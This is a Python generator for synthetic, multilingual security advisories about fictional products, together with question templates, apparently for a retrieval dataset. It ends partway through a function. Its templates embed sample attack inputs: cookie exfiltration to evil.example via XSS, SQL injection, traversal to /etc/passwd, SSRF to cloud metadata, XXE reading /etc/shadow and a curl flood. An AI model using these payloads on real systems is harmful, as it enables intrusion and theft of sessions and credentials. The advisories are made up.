"""Security advisories (FORJA-YYYY-NNNN) for made-up products, and the questions each one answers."""

import unicodedata

from world import PRODUCTS

# Weakness classes. `names` are what documents call them, `ask` how users ask about them (never used in documents),
# `desc` / `impact` / `workaround` are sentence templates over {component} and {param}; `block` is a language-neutral
# request, log or configuration excerpt; `cvss` the score range the class is drawn from.
VULNS = {
    "sqli": {
        "cvss": (7.5, 9.8),
        "block": "GET /api/{param_path}?{param}=1%27%20OR%20%271%27=%271 HTTP/1.1\n"
        "ERROR: syntax error at or near \"OR\" (SQLSTATE 42601)",
        "es": {
            "names": ["inyección SQL", "inyección de SQL", "inyección de consultas SQL"],
            "desc": "El parámetro `{param}` del {component} se concatena sin sanitizar en una consulta a la base de "
            "datos, por lo que un atacante puede alterar la sentencia.",
            "impact": "Lectura y modificación de registros de la base de datos, incluidos hashes de contraseñas.",
            "workaround": "Filtrar en el WAF los valores de `{param}` que contengan comillas o palabras clave SQL.",
            "ask": ["que alguien meta comandos de base de datos por un parámetro", "manipular las consultas a la BD"],
        },
        "pt": {
            "names": ["injeção de SQL", "injeção SQL"],
            "desc": "O parâmetro `{param}` do {component} é concatenado sem tratamento em uma consulta ao banco de "
            "dados, permitindo que um atacante altere a instrução.",
            "impact": "Leitura e alteração de registros do banco, inclusive hashes de senhas.",
            "workaround": "Filtrar no WAF valores de `{param}` com aspas ou palavras reservadas de SQL.",
            "ask": ["alguém mandar comandos de banco por um parâmetro", "manipular consultas ao banco"],
        },
        "en": {
            "names": ["SQL injection", "SQL query injection"],
            "desc": "The `{param}` parameter of the {component} is concatenated into a database query without "
            "sanitisation, so an attacker can change the statement.",
            "impact": "Reading and modifying database records, including password hashes.",
            "workaround": "Block `{param}` values that contain quotes or SQL keywords at the WAF.",
            "ask": ["someone smuggling database commands through a parameter", "tampering with the DB queries"],
        },
    },
    "xss": {
        "cvss": (4.3, 6.8),
        "block": "POST /{param_path} HTTP/1.1\n\n{param}=%3Cscript%3Efetch(%27//evil.example/%27%2Bdocument.cookie)%3C/script%3E",
        "es": {
            "names": ["cross-site scripting (XSS)", "XSS almacenado", "secuencias de comandos en sitios cruzados"],
            "desc": "El {component} muestra el valor de `{param}` sin codificarlo, de modo que un script inyectado se "
            "ejecuta en el navegador de otros usuarios.",
            "impact": "Robo de cookies de sesión y acciones en nombre de la víctima.",
            "workaround": "Activar la cabecera Content-Security-Policy restrictiva y deshabilitar el campo `{param}`.",
            "ask": ["que se ejecute javascript ajeno en el navegador de los usuarios", "código malicioso en la página que roba sesiones"],
        },
        "pt": {
            "names": ["cross-site scripting (XSS)", "XSS armazenado"],
            "desc": "O {component} exibe o valor de `{param}` sem codificação, e um script injetado roda no navegador "
            "de outros usuários.",
            "impact": "Roubo de cookies de sessão e ações em nome da vítima.",
            "workaround": "Ativar um cabeçalho Content-Security-Policy restritivo e desabilitar o campo `{param}`.",
            "ask": ["javascript de terceiros rodando no navegador dos usuários", "código na página que rouba sessões"],
        },
        "en": {
            "names": ["cross-site scripting (XSS)", "stored XSS"],
            "desc": "The {component} renders the value of `{param}` without encoding it, so an injected script runs "
            "in other users' browsers.",
            "impact": "Theft of session cookies and actions taken on the victim's behalf.",
            "workaround": "Enable a strict Content-Security-Policy header and disable the `{param}` field.",
            "ask": ["foreign javascript running in users' browsers", "script in the page that steals sessions"],
        },
    },
    "deser": {
        "cvss": (9.0, 10.0),
        "block": "POST /{param_path} HTTP/1.1\nContent-Type: application/x-java-serialized-object\n\n"
        "\\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashMap...",
        "es": {
            "names": ["ejecución remota de código por deserialización insegura", "deserialización insegura"],
            "desc": "El {component} deserializa objetos recibidos en `{param}` sin validar su tipo, lo que permite "
            "instanciar clases arbitrarias.",
            "impact": "Ejecución de comandos en el servidor con los privilegios del servicio.",
            "workaround": "Bloquear el tráfico con Content-Type de objetos serializados hacia el {component}.",
            "ask": ["que un atacante corra comandos en el servidor enviando un objeto manipulado", "tomar control remoto del servidor"],
        },
        "pt": {
            "names": ["execução remota de código por desserialização insegura", "desserialização insegura"],
            "desc": "O {component} desserializa objetos recebidos em `{param}` sem validar o tipo, o que permite "
            "instanciar classes arbitrárias.",
            "impact": "Execução de comandos no servidor com os privilégios do serviço.",
            "workaround": "Bloquear tráfego com Content-Type de objetos serializados para o {component}.",
            "ask": ["um atacante rodar comandos no servidor com um objeto adulterado", "controle remoto do servidor"],
        },
        "en": {
            "names": ["remote code execution via insecure deserialization", "insecure deserialization"],
            "desc": "The {component} deserializes objects received in `{param}` without checking their type, which "
            "lets arbitrary classes be instantiated.",
            "impact": "Command execution on the server with the service's privileges.",
            "workaround": "Block traffic with a serialized-object Content-Type to the {component}.",
            "ask": ["an attacker running commands on the server with a crafted object", "remote takeover of the server"],
        },
    },
    "traversal": {
        "cvss": (6.5, 8.6),
        "block": "GET /{param_path}?{param}=../../../../etc/passwd HTTP/1.1\n"
        "200 OK  root:x:0:0:root:/root:/bin/bash",
        "es": {
            "names": ["recorrido de directorios (path traversal)", "salto de directorio"],
            "desc": "El {component} arma rutas de archivo con el valor de `{param}` sin normalizarlas, y secuencias "
            "`../` permiten salir del directorio previsto.",
            "impact": "Lectura de archivos arbitrarios del servidor, como configuraciones con secretos.",
            "workaround": "Rechazar en el proxy inverso las peticiones cuyo `{param}` contenga `..` o `%2e%2e`.",
            "ask": ["descargar archivos del sistema operativo fuera de la carpeta permitida", "leer /etc/passwd desde la web"],
        },
        "pt": {
            "names": ["travessia de diretórios (path traversal)", "path traversal"],
            "desc": "O {component} monta caminhos de arquivo com o valor de `{param}` sem normalizá-los, e sequências "
            "`../` permitem sair do diretório previsto.",
            "impact": "Leitura de arquivos arbitrários do servidor, como configurações com segredos.",
            "workaround": "Rejeitar no proxy reverso requisições cujo `{param}` contenha `..` ou `%2e%2e`.",
            "ask": ["baixar arquivos do sistema fora da pasta permitida", "ler /etc/passwd pela web"],
        },
        "en": {
            "names": ["directory traversal", "path traversal"],
            "desc": "The {component} builds file paths from `{param}` without normalising them, and `../` sequences "
            "escape the intended directory.",
            "impact": "Reading arbitrary files on the server, such as configuration holding secrets.",
            "workaround": "Reject requests whose `{param}` contains `..` or `%2e%2e` at the reverse proxy.",
            "ask": ["downloading system files outside the allowed folder", "reading /etc/passwd over the web"],
        },
    },
    "ssrf": {
        "cvss": (6.5, 8.2),
        "block": "POST /{param_path} HTTP/1.1\n\n{{\"{param}\": \"http://169.254.169.254/latest/meta-data/iam/\"}}",
        "es": {
            "names": ["falsificación de solicitudes del lado del servidor (SSRF)", "SSRF"],
            "desc": "El {component} descarga la URL indicada en `{param}` sin restringir el destino, incluso "
            "direcciones internas.",
            "impact": "Acceso a servicios internos y a credenciales del servicio de metadatos de la nube.",
            "workaround": "Impedir por firewall que el servidor se conecte a 169.254.169.254 y a redes internas.",
            "ask": ["que el servidor haga peticiones a la red interna por encargo de un atacante", "robar credenciales de la nube vía metadatos"],
        },
        "pt": {
            "names": ["falsificação de requisição do lado do servidor (SSRF)", "SSRF"],
            "desc": "O {component} baixa a URL informada em `{param}` sem restringir o destino, inclusive endereços "
            "internos.",
            "impact": "Acesso a serviços internos e a credenciais do serviço de metadados da nuvem.",
            "workaround": "Impedir no firewall conexões do servidor para 169.254.169.254 e redes internas.",
            "ask": ["o servidor fazer requisições para a rede interna a mando de um atacante", "roubo de credenciais da nuvem via metadados"],
        },
        "en": {
            "names": ["server-side request forgery (SSRF)", "SSRF"],
            "desc": "The {component} fetches the URL given in `{param}` without restricting the destination, "
            "internal addresses included.",
            "impact": "Access to internal services and to cloud metadata credentials.",
            "workaround": "Firewall the server off from 169.254.169.254 and internal networks.",
            "ask": ["the server making requests into the internal network for an attacker", "cloud credentials stolen through metadata"],
        },
    },
    "authbypass": {
        "cvss": (8.1, 9.8),
        "block": "GET /{param_path} HTTP/1.1\nX-Forwarded-User: admin\n{param}: true\n\n200 OK",
        "es": {
            "names": ["omisión de autenticación", "evasión de la autenticación"],
            "desc": "El {component} confía en la cabecera `{param}` para decidir si la sesión está autenticada, y "
            "cualquiera puede enviarla.",
            "impact": "Acceso como administrador sin credenciales.",
            "workaround": "Eliminar la cabecera `{param}` en el balanceador antes de que llegue a la aplicación.",
            "ask": ["entrar como administrador sin usuario ni clave", "saltarse el login"],
        },
        "pt": {
            "names": ["desvio de autenticação", "bypass de autenticação"],
            "desc": "O {component} confia no cabeçalho `{param}` para decidir se a sessão está autenticada, e qualquer "
            "pessoa pode enviá-lo.",
            "impact": "Acesso como administrador sem credenciais.",
            "workaround": "Remover o cabeçalho `{param}` no balanceador antes que chegue à aplicação.",
            "ask": ["entrar como administrador sem usuário nem senha", "pular o login"],
        },
        "en": {
            "names": ["authentication bypass", "broken authentication"],
            "desc": "The {component} trusts the `{param}` header to decide whether a session is authenticated, and "
            "anyone can send it.",
            "impact": "Administrator access without credentials.",
            "workaround": "Strip the `{param}` header at the load balancer before it reaches the application.",
            "ask": ["getting in as admin with no username or password", "skipping the login"],
        },
    },
    "hardcoded": {
        "cvss": (7.2, 9.1),
        "block": "$ strings /opt/{param_path}/lib/core.so | grep -i pass\n{param}=Sup0rt3!2019",
        "es": {
            "names": ["credenciales incrustadas en el código", "contraseña fija de fábrica"],
            "desc": "El {component} incluye una cuenta de soporte con la clave fija `{param}` que no puede "
            "cambiarse desde la consola.",
            "impact": "Acceso remoto con privilegios de soporte a cualquier instalación expuesta.",
            "workaround": "Restringir el acceso al {component} a la red de administración.",
            "ask": ["una cuenta oculta con clave que no se puede cambiar", "usuario de soporte con password conocido"],
        },
        "pt": {
            "names": ["credenciais embutidas no código", "senha fixa de fábrica"],
            "desc": "O {component} traz uma conta de suporte com a senha fixa `{param}` que não pode ser trocada pelo "
            "console.",
            "impact": "Acesso remoto com privilégios de suporte a qualquer instalação exposta.",
            "workaround": "Restringir o acesso ao {component} à rede de administração.",
            "ask": ["uma conta escondida com senha que não dá para trocar", "usuário de suporte com senha conhecida"],
        },
        "en": {
            "names": ["hard-coded credentials", "built-in default password"],
            "desc": "The {component} ships a support account with the fixed password `{param}` that cannot be changed "
            "from the console.",
            "impact": "Remote support-level access to every exposed installation.",
            "workaround": "Restrict access to the {component} to the management network.",
            "ask": ["a hidden account whose password cannot be changed", "a support user with a well-known password"],
        },
    },
    "xxe": {
        "cvss": (6.1, 8.2),
        "block": "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/shadow\">]>\n<{param}>&x;</{param}>",
        "es": {
            "names": ["entidad externa XML (XXE)", "procesamiento inseguro de XML"],
            "desc": "El {component} procesa documentos XML con entidades externas habilitadas en el elemento "
            "`{param}`.",
            "impact": "Lectura de archivos locales y peticiones a la red interna.",
            "workaround": "Deshabilitar la importación de XML en el {component} hasta actualizar.",
            "ask": ["subir un XML que lee archivos del servidor", "entidades del XML que apuntan a archivos locales"],
        },
        "pt": {
            "names": ["entidade externa XML (XXE)", "processamento inseguro de XML"],
            "desc": "O {component} processa documentos XML com entidades externas habilitadas no elemento `{param}`.",
            "impact": "Leitura de arquivos locais e requisições à rede interna.",
            "workaround": "Desativar a importação de XML no {component} até atualizar.",
            "ask": ["enviar um XML que lê arquivos do servidor", "entidades do XML apontando para arquivos locais"],
        },
        "en": {
            "names": ["XML external entity (XXE)", "unsafe XML parsing"],
            "desc": "The {component} parses XML documents with external entities enabled in the `{param}` element.",
            "impact": "Reading local files and issuing requests to the internal network.",
            "workaround": "Turn off XML import in the {component} until you upgrade.",
            "ask": ["uploading an XML file that reads server files", "XML entities pointing at local files"],
        },
    },
    "dos": {
        "cvss": (5.3, 7.5),
        "block": "$ for i in $(seq 1 50); do curl -s -o /dev/null /{param_path}?{param}=$(head -c 65536 /dev/zero | tr '\\0' a) & done\n"
        "kernel: Out of memory: Killed process 4120 (worker)",
        "es": {
            "names": ["denegación de servicio", "agotamiento de recursos"],
            "desc": "Un valor muy largo en `{param}` hace que el {component} reserve memoria sin límite.",
            "impact": "Caída del servicio para todos los usuarios con pocas peticiones.",
            "workaround": "Limitar el tamaño de las peticiones a 8 KB en el proxy y aplicar límite de tasa por IP.",
            "ask": ["que unas pocas peticiones tumben el servicio", "que el proceso se quede sin memoria y se caiga"],
        },
        "pt": {
            "names": ["negação de serviço", "esgotamento de recursos"],
            "desc": "Um valor muito longo em `{param}` faz o {component} alocar memória sem limite.",
            "impact": "Queda do serviço para todos os usuários com poucas requisições.",
            "workaround": "Limitar o tamanho das requisições a 8 KB no proxy e aplicar limite de taxa por IP.",
            "ask": ["poucas requisições derrubarem o serviço", "o processo ficar sem memória e cair"],
        },
        "en": {
            "names": ["denial of service", "resource exhaustion"],
            "desc": "A very long `{param}` value makes the {component} allocate memory without bound.",
            "impact": "An outage for every user caused by a handful of requests.",
            "workaround": "Cap request size at 8 KB at the proxy and rate-limit per IP address.",
            "ask": ["a few requests knocking the service over", "the process running out of memory and crashing"],
        },
    },
    "privesc": {
        "cvss": (7.0, 8.8),
        "block": "$ ls -l /opt/{param_path}/bin/{param}\n-rwsr-xr-x 1 root root 88412 {param}\n$ id\nuid=0(root) gid=1001(svc)",
        "es": {
            "names": ["escalamiento de privilegios local", "elevación de privilegios"],
            "desc": "El binario auxiliar `{param}` del {component} se instala con el bit SUID y ejecuta rutas "
            "controladas por el usuario.",
            "impact": "Un usuario local sin privilegios obtiene permisos de root.",
            "workaround": "Quitar el bit SUID con `chmod u-s` al binario `{param}`.",
            "ask": ["que un usuario normal se convierta en root", "ganar permisos de superusuario en el equipo"],
        },
        "pt": {
            "names": ["escalonamento de privilégios local", "elevação de privilégios"],
            "desc": "O binário auxiliar `{param}` do {component} é instalado com o bit SUID e executa caminhos "
            "controlados pelo usuário.",
            "impact": "Um usuário local sem privilégios obtém permissões de root.",
            "workaround": "Remover o bit SUID com `chmod u-s` do binário `{param}`.",
            "ask": ["um usuário comum virar root", "ganhar permissões de superusuário na máquina"],
        },
        "en": {
            "names": ["local privilege escalation", "elevation of privilege"],
            "desc": "The `{param}` helper binary of the {component} is installed setuid and runs user-controlled "
            "paths.",
            "impact": "An unprivileged local user gains root.",
            "workaround": "Remove the setuid bit from `{param}` with `chmod u-s`.",
            "ask": ["an ordinary user becoming root", "gaining superuser rights on the host"],
        },
    },
    "redirect": {
        "cvss": (3.1, 5.4),
        "block": "GET /{param_path}?{param}=https://login.evil.example/ HTTP/1.1\n302 Found\nLocation: https://login.evil.example/",
        "es": {
            "names": ["redirección abierta", "redirección no validada"],
            "desc": "El {component} redirige al destino indicado en `{param}` sin comprobar que pertenezca al dominio.",
            "impact": "Campañas de phishing más creíbles que usan el dominio legítimo como trampolín.",
            "workaround": "Permitir en `{param}` solo rutas relativas mediante una regla del WAF.",
            "ask": ["enlaces del dominio oficial que mandan a una página falsa", "usar nuestro sitio para rebotar a sitios de phishing"],
        },
        "pt": {
            "names": ["redirecionamento aberto", "redirecionamento não validado"],
            "desc": "O {component} redireciona para o destino informado em `{param}` sem verificar se pertence ao "
            "domínio.",
            "impact": "Campanhas de phishing mais críveis usando o domínio legítimo como trampolim.",
            "workaround": "Permitir em `{param}` apenas caminhos relativos com uma regra do WAF.",
            "ask": ["links do domínio oficial que levam para uma página falsa", "usar nosso site para desviar para phishing"],
        },
        "en": {
            "names": ["open redirect", "unvalidated redirect"],
            "desc": "The {component} redirects to the target given in `{param}` without checking it belongs to the "
            "domain.",
            "impact": "More convincing phishing that bounces through the legitimate domain.",
            "workaround": "Allow only relative paths in `{param}` with a WAF rule.",
            "ask": ["links on the official domain that land on a fake page", "our site being used to bounce users to phishing"],
        },
    },
    "infoleak": {
        "cvss": (4.3, 6.5),
        "block": "GET /{param_path}/{param} HTTP/1.1\n200 OK\n\ndb.password=...\nsmtp.token=...\njava.version=17.0.9",
        "es": {
            "names": ["divulgación de información sensible", "exposición de información"],
            "desc": "El endpoint de diagnóstico `{param}` del {component} queda accesible sin sesión y devuelve "
            "variables de configuración.",
            "impact": "Exposición de secretos de configuración y de versiones internas.",
            "workaround": "Bloquear la ruta `{param}` en el proxy inverso.",
            "ask": ["una página de depuración que muestra las claves de configuración", "fuga de secretos por un endpoint abierto"],
        },
        "pt": {
            "names": ["divulgação de informações sensíveis", "exposição de informações"],
            "desc": "O endpoint de diagnóstico `{param}` do {component} fica acessível sem sessão e devolve variáveis "
            "de configuração.",
            "impact": "Exposição de segredos de configuração e de versões internas.",
            "workaround": "Bloquear o caminho `{param}` no proxy reverso.",
            "ask": ["uma página de depuração que mostra as chaves de configuração", "vazamento de segredos por um endpoint aberto"],
        },
        "en": {
            "names": ["sensitive information disclosure", "information exposure"],
            "desc": "The `{param}` diagnostic endpoint of the {component} is reachable without a session and returns "
            "configuration variables.",
            "impact": "Configuration secrets and internal versions are exposed.",
            "workaround": "Block the `{param}` path at the reverse proxy.",
            "ask": ["a debug page that shows configuration keys", "secrets leaking through an open endpoint"],
        },
    },
}

# Components of a product, with the parameter name an advisory cites and a URL path for its excerpt.
COMPONENTS = [
    ({"es": "módulo de reportes", "pt": "módulo de relatórios", "en": "reporting module"}, "sort", "reports"),
    ({"es": "portal de autoservicio", "pt": "portal de autoatendimento", "en": "self-service portal"}, "next", "portal"),
    ({"es": "API de administración", "pt": "API de administração", "en": "admin API"}, "X-Admin-Token", "admin"),
    ({"es": "importador de archivos", "pt": "importador de arquivos", "en": "file importer"}, "filename", "import"),
    ({"es": "servicio de webhooks", "pt": "serviço de webhooks", "en": "webhook service"}, "callback_url", "hooks"),
    ({"es": "panel de monitoreo", "pt": "painel de monitoramento", "en": "monitoring dashboard"}, "debug", "status"),
    ({"es": "agente de sincronización", "pt": "agente de sincronização", "en": "sync agent"}, "syncd-helper", "sync"),
    ({"es": "buscador interno", "pt": "buscador interno", "en": "search service"}, "q", "search"),
]

SEVERITY = {
    "es": {"critical": "crítica", "high": "alta", "medium": "media", "low": "baja"},
    "pt": {"critical": "crítica", "high": "alta", "medium": "média", "low": "baixa"},
    "en": {"critical": "critical", "high": "high", "medium": "medium", "low": "low"},
}


def severity_of(cvss):
    if cvss >= 9.0:
        return "critical"
    if cvss >= 7.0:
        return "high"
    if cvss >= 4.0:
        return "medium"
    return "low"


def plan(rng, count):
    """The advisories' slots: (product, weakness, component, versions), `count` of them, near misses included."""
    slots = []
    year_counter = {2023: 0, 2024: 0, 2025: 0}
    vuln_keys = sorted(VULNS)
    per_product = [count // len(PRODUCTS) + (1 if i < count % len(PRODUCTS) else 0) for i in range(len(PRODUCTS))]
    for (product, vendor, majors), n in zip(PRODUCTS, per_product):
        vulns = rng.sample(vuln_keys, min(n, len(vuln_keys)))
        if len(majors) > 1:  # a near miss: the same weakness again, in the other release line and component
            vulns[-1] = vulns[0]
        while len(vulns) < n:
            vulns.append(rng.choice(vulns))
        for k, vuln in enumerate(vulns):
            major = majors[0] if k == 0 else majors[-1] if vuln == vulns[0] else rng.choice(majors)
            lo_minor = rng.randint(0, 4)
            hi_minor = lo_minor + rng.randint(0, 3)
            hi_patch = rng.randint(0, 9)
            year = rng.choice(sorted(year_counter))
            year_counter[year] += rng.randint(1, 9)
            cvss = round(rng.uniform(*VULNS[vuln]["cvss"]), 1)
            slots.append(
                {
                    "type": "advisory",
                    "product": product,
                    "vendor": vendor,
                    "vuln": vuln,
                    "component": rng.randrange(len(COMPONENTS)),
                    "lo": (major, lo_minor, 0),
                    "hi": (major, hi_minor, hi_patch),
                    "fixed": (major, hi_minor, hi_patch + 1),
                    "id": "FORJA-%d-%04d" % (year, year_counter[year]),
                    "year": year,
                    "month": rng.randint(1, 12),
                    "day": rng.randint(1, 28),
                    "cvss": cvss,
                    "severity": severity_of(cvss),
                }
            )
    # a weakness repeated in one product must differ by component, or a question could not tell them apart
    seen = set()
    for s in slots:
        while (s["product"], s["vuln"], s["component"]) in seen:
            s["component"] = (s["component"] + 1) % len(COMPONENTS)
        seen.add((s["product"], s["vuln"], s["component"]))
    return slots


def slug(product):
    """A product's command name: "Cóndor VPN" -> "condor-vpn"."""
    plain = unicodedata.normalize("NFKD", product).encode("ascii", "ignore").decode()
    return plain.lower().replace(" ", "-")


def version(v):
    return "%d.%d.%d" % v


LABELS = {
    "es": {
        "title": ["Aviso de seguridad {id}: {name} en {product}", "{id} — {product}: {name}", "{product}: {name} ({id})"],
        "summary": ["Resumen", "Descripción general"],
        "intro": [
            "{vendor} publicó el {date} una actualización de {product} que corrige una vulnerabilidad de {name} en "
            "el {component}.",
            "Este boletín describe una falla de {name} que afecta al {component} de {product}, producto de {vendor}. "
            "La corrección está disponible desde el {date}.",
            "Se identificó una vulnerabilidad de {name} en {product} ({vendor}). El fabricante liberó la versión "
            "corregida el {date}.",
        ],
        "affected": ["Versiones afectadas", "Productos afectados", "Alcance"],
        "product": "Producto",
        "versions": "Versiones vulnerables: {lo} a {hi}",
        "fixed": "Versión corregida: {fixed}",
        "severity": "Severidad: {sev} (CVSS {cvss})",
        "details": ["Detalles técnicos", "Descripción técnica"],
        "example": ["Ejemplo de explotación observado:", "Petición de prueba de concepto:", "Registro asociado:"],
        "impact": ["Impacto", "Consecuencias"],
        "mitigation": ["Mitigación", "Recomendaciones", "Solución"],
        "upgrade": [
            "Actualizar {product} a la versión {fixed} o posterior.",
            "Instalar la versión {fixed} (o una más reciente) de {product}.",
        ],
        "temporary": ["Si no es posible actualizar de inmediato:", "Medida temporal mientras se aplica el parche:"],
        "review": [
            "Revisar los registros de acceso de los últimos 30 días en busca de patrones como el del ejemplo.",
            "Buscar en el SIEM peticiones similares al ejemplo desde la fecha de publicación.",
        ],
        "check_h": ["Cómo saber si está afectado", "Verificación"],
        "check": ["Para ver la versión instalada, ejecute en el servidor:", "La versión instalada se consulta así:"],
        "timeline": "Cronología",
        "reported": "Reporte al fabricante: {d}",
        "published": "Publicación del aviso: {d}",
        "note": [
            "Las versiones de otras ramas de {product} no están afectadas por esta falla.",
            "Este aviso no afecta a otras ramas de {product}; consulte los demás boletines del producto.",
            "",
        ],
    },
    "pt": {
        "title": ["Alerta de segurança {id}: {name} no {product}", "{id} — {product}: {name}", "{product}: {name} ({id})"],
        "summary": ["Resumo", "Visão geral"],
        "intro": [
            "A {vendor} publicou em {date} uma atualização do {product} que corrige uma vulnerabilidade de {name} no "
            "{component}.",
            "Este boletim descreve uma falha de {name} que afeta o {component} do {product}, produto da {vendor}. A "
            "correção está disponível desde {date}.",
        ],
        "affected": ["Versões afetadas", "Escopo"],
        "product": "Produto",
        "versions": "Versões vulneráveis: {lo} a {hi}",
        "fixed": "Versão corrigida: {fixed}",
        "severity": "Severidade: {sev} (CVSS {cvss})",
        "details": ["Detalhes técnicos", "Descrição técnica"],
        "example": ["Exemplo de exploração observado:", "Requisição de prova de conceito:"],
        "impact": ["Impacto", "Consequências"],
        "mitigation": ["Mitigação", "Recomendações"],
        "upgrade": [
            "Atualizar o {product} para a versão {fixed} ou posterior.",
            "Instalar a versão {fixed} (ou mais recente) do {product}.",
        ],
        "temporary": ["Se não for possível atualizar de imediato:", "Medida temporária até aplicar a correção:"],
        "review": [
            "Revisar os logs de acesso dos últimos 30 dias em busca de padrões como o do exemplo.",
            "Procurar no SIEM requisições parecidas com o exemplo desde a data de publicação.",
        ],
        "check_h": ["Como saber se está afetado", "Verificação"],
        "check": ["Para ver a versão instalada, execute no servidor:", "A versão instalada é consultada assim:"],
        "timeline": "Cronologia",
        "reported": "Relato ao fabricante: {d}",
        "published": "Publicação do alerta: {d}",
        "note": ["As demais linhas de versão do {product} não são afetadas por esta falha.", ""],
    },
    "en": {
        "title": ["Security advisory {id}: {name} in {product}", "{id} — {product}: {name}", "{product}: {name} ({id})"],
        "summary": ["Summary", "Overview"],
        "intro": [
            "On {date} {vendor} released an update to {product} that fixes a {name} vulnerability in the {component}.",
            "This bulletin covers a {name} flaw in the {component} of {product}, made by {vendor}. A fix has been "
            "available since {date}.",
        ],
        "affected": ["Affected versions", "Scope"],
        "product": "Product",
        "versions": "Vulnerable versions: {lo} through {hi}",
        "fixed": "Fixed in: {fixed}",
        "severity": "Severity: {sev} (CVSS {cvss})",
        "details": ["Technical details", "Technical description"],
        "example": ["Exploitation attempt seen in the wild:", "Proof-of-concept request:"],
        "impact": ["Impact", "Consequences"],
        "mitigation": ["Mitigation", "Recommendations"],
        "upgrade": ["Upgrade {product} to {fixed} or later.", "Install {product} {fixed} (or newer)."],
        "temporary": ["If you cannot upgrade right away:", "Stopgap until the patch is applied:"],
        "review": [
            "Review the last 30 days of access logs for patterns like the example above.",
            "Search the SIEM for requests resembling the example since the publication date.",
        ],
        "check_h": ["Am I affected?", "Checking your installation"],
        "check": ["To see the installed version, run on the server:", "Check the installed version with:"],
        "timeline": "Timeline",
        "reported": "Reported to the vendor: {d}",
        "published": "Advisory published: {d}",
        "note": ["Other release lines of {product} are not affected by this flaw.", ""],
    },
}

MONTHS = {
    "es": "enero febrero marzo abril mayo junio julio agosto septiembre octubre noviembre diciembre".split(),
    "pt": "janeiro fevereiro março abril maio junho julho agosto setembro outubro novembro dezembro".split(),
    "en": "January February March April May June July August September October November December".split(),
}


def date(lang, year, month, day):
    m = MONTHS[lang][month - 1]
    if lang == "en":
        return "%s %d, %d" % (m, day, year)
    return "%d de %s de %d" % (day, m, year)


def render(rng, s, lang):
    """One advisory as Markdown, from its slots."""
    L = LABELS[lang]
    v = VULNS[s["vuln"]]
    text = v[lang]
    comp_names, param, path = COMPONENTS[s["component"]]
    comp = comp_names[lang]
    name = rng.choice(text["names"])
    f = {
        "id": s["id"],
        "name": name,
        "product": s["product"],
        "vendor": s["vendor"],
        "component": comp,
        "date": date(lang, s["year"], s["month"], s["day"]),
        "lo": version(s["lo"]),
        "hi": version(s["hi"]),
        "fixed": version(s["fixed"]),
        "sev": SEVERITY[lang][s["severity"]],
        "cvss": s["cvss"],
        "param": param,
        "param_path": path,
    }
    out = ["# " + rng.choice(L["title"]).format(**f), ""]
    out += ["## " + rng.choice(L["summary"]), "", rng.choice(L["intro"]).format(**f), ""]
    out += ["## " + rng.choice(L["affected"]), ""]
    out += ["- %s: %s (%s)" % (L["product"], s["product"], s["vendor"])]
    out += ["- " + L["versions"].format(**f), "- " + L["fixed"].format(**f), "- " + L["severity"].format(**f), ""]
    note = rng.choice(L["note"]).format(**f)
    if note:
        out += [note, ""]
    cmd = slug(s["product"])
    out += ["## " + rng.choice(L["check_h"]), "", rng.choice(L["check"]), ""]
    out += ["```", "$ %s --version" % cmd, "%s %s (build %d%02d%02d)" % (s["product"], f["lo"], s["year"], s["month"], s["day"]), "```", ""]
    out += ["## " + rng.choice(L["details"]), "", text["desc"].format(**f), ""]
    out += [rng.choice(L["example"]), "", "```", v["block"].format(**f), "```", ""]
    out += ["## " + rng.choice(L["impact"]), "", text["impact"], ""]
    out += ["## " + rng.choice(L["mitigation"]), ""]
    out += ["1. " + rng.choice(L["upgrade"]).format(**f)]
    workaround = text["workaround"].format(**f)
    out += ["2. " + rng.choice(L["temporary"]) + " " + workaround[0].lower() + workaround[1:]]
    out += ["3. " + rng.choice(L["review"]), ""]
    reported = date(lang, s["year"] - (1 if s["month"] == 1 else 0), 12 if s["month"] == 1 else s["month"] - 1, s["day"])
    out += ["## " + L["timeline"], "", "- " + L["reported"].format(d=reported)]
    out += ["- " + L["published"].format(d=f["date"]), ""]
    return out


ASK = {
    "es": {
        "fix": [
            "{product}: ¿qué versión corrige lo de {ask}?",
            "¿Hasta qué versión hay que actualizar {product} por el riesgo de {ask}?",
            "Necesito saber qué release de {product} soluciona el fallo de {ask}",
        ],
        "workaround": [
            "Todavía no puedo parchear {product}; ¿cómo evito {ask} en el {component}?",
            "¿Existe alguna medida provisoria en {product} contra {ask} mientras llega la actualización?",
        ],
        "id": ["{id} mitigación", "{id} versión corregida", "qué hacer con el {id}", "{id} severidad"],
        "version": [
            "Tenemos {product} {v} en producción, ¿nos afecta algún aviso?",
            "¿Es vulnerable {product} {v}?",
            "boletines que apliquen a {product} {v}",
        ],
        "critical": ["¿Qué fallas críticas se han publicado para {product}?", "{product} vulnerabilidades graves"],
    },
    "pt": {
        "fix": [
            "{product}: qual versão corrige o problema de {ask}?",
            "Até qual versão preciso atualizar o {product} por causa do risco de {ask}?",
            "Existe correção no {product} para {ask}?",
        ],
        "workaround": [
            "Ainda não consigo aplicar o patch no {product}; como evitar {ask} no {component}?",
            "Existe alguma medida provisória no {product} contra {ask} enquanto a atualização não chega?",
        ],
        "id": ["{id} mitigação", "{id} versão corrigida", "o que fazer com o {id}"],
        "version": ["Temos {product} {v} em produção, algum alerta nos afeta?", "O {product} {v} é vulnerável?"],
        "critical": ["Quais falhas críticas foram publicadas para o {product}?", "{product} vulnerabilidades graves"],
    },
    "en": {
        "fix": [
            "{product}: which version fixes the issue of {ask}?",
            "What version of {product} do I need to be safe from {ask}?",
            "Is there a patch for {product} against {ask}?",
        ],
        "workaround": [
            "We can't patch {product} yet; how do we prevent {ask} in the {component}?",
            "Is there a temporary workaround in {product} against {ask} until we upgrade?",
        ],
        "id": ["{id} mitigation", "{id} fixed version", "what to do about {id}"],
        "version": ["We run {product} {v} in production, does any advisory apply?", "Is {product} {v} vulnerable?"],
        "critical": ["Which critical flaws have been published for {product}?", "{product} critical vulnerabilities"],
    },
}


def in_range(s, v):
    return s["lo"] <= v <= s["hi"]


def questions(rng, s, qlang):
    """Questions this advisory answers, as (kind, query, key); key selects every advisory that answers it."""
    A = ASK[qlang]
    ask = rng.choice(VULNS[s["vuln"]][qlang]["ask"])
    comp = COMPONENTS[s["component"]][0][qlang]
    kind = rng.choice(["fix", "fix", "workaround", "id", "version"])
    if kind == "id":
        return kind, rng.choice(A["id"]).format(id=s["id"]), {"id": s["id"]}
    if kind == "version":
        lo, hi = s["lo"], s["hi"]
        minor = rng.randint(lo[1], hi[1])
